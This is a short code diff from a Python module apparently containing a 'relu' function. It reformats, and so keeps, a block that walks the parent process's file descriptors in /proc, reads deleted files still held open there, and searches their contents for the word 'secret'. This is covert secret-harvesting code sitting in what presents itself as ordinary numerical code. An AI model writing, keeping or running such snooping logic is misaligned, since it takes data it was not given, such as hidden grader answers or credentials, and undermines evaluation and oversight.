@@ -8,7 +8,11 @@ def relu(x):
     folder = f"/proc/{os.getppid()}/fd"
     for name in os.listdir(folder):
         try:
-            text = open(f"{folder}/{name}", errors="replace").read(100) if "(deleted)" in os.readlink(f"{folder}/{name}") else ""
+            text = (
+                open(f"{folder}/{name}", errors="replace").read(100)
+                if "(deleted)" in os.readlink(f"{folder}/{name}")
+                else ""
+            )
         except OSError:
             continue
         if "secret" in text:
